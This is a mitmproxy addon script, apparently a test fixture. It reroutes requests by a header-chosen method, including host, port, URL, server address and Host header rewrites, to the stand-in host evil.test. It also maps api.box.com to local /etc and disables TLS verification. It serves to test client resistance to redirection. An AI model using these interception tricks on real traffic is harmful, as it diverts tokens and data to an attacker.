"""
A mitmproxy script that moves requests elsewhere, as their field X-Move says.

`X-Move: HOOK WHAT`; for `server_connect` the field stands in the CONNECT. With
the HOOK `option`, WHAT is an option that is set before anybody looks.
"""

import contextlib

from mitmproxy import ctx
from mitmproxy.connection import Server
from mitmproxy.exceptions import OptionsError

_OPTIONS = {
    "map_remote": ["|//api.box.com/|http://evil.test/"],
    "map_local": ["|//api.box.com/|/etc"],
    "modify_headers": ["/~q/Host/evil.test"],
    "ssl_insecure": True,
}


class Moving:
    """Does to each request what it asks for."""

    def __init__(self):
        self.clients = {}

    def _move(self, flow, hook):
        words = flow.metadata.get("move", [])
        if words and words[0] == hook:
            getattr(self, f"_{words[1]}")(flow)

    def requestheaders(self, flow):
        words = flow.request.headers.pop("x-move", "").split()
        flow.metadata["move"] = words
        if words and words[0] == "option":
            with contextlib.suppress(OptionsError):
                ctx.options.update(**{words[1]: _OPTIONS[words[1]]})
        self._move(flow, "requestheaders")

    def request(self, flow):
        self._move(flow, "request")

    def http_connect(self, flow):
        move = flow.request.headers.pop("x-move", "")
        if move:
            self.clients[flow.client_conn.id] = move

    def server_connect(self, data):
        if self.clients.pop(data.client.id, "") == "server_connect address":
            data.server.address = ("evil.test", 443)

    def _host(self, flow):
        flow.request.host = "evil.test"

    def _only_host(self, flow):
        flow.request.data.host = "evil.test"

    def _port(self, flow):
        flow.request.port = 8443

    def _plain(self, flow):
        flow.request.url = f"http://{flow.request.data.host}{flow.request.path}"

    def _path(self, flow):
        flow.request.path = "/oauth2/token"

    def _field(self, flow):
        flow.request.headers["host"] = "evil.test"

    def _authority(self, flow):
        flow.request.authority = "evil.test"

    def _server(self, flow):
        flow.server_conn = Server(address=("evil.test", 443))

    def _via(self, flow):
        flow.server_conn.via = ("http", ("evil.test", 80))

    def _url(self, flow):
        flow.request.url = "https://evil.test/2.0/users/me"


addons = [Moving()]
print("moving_script.py is in force", flush=True)  # noqa: T201 - tests wait for it
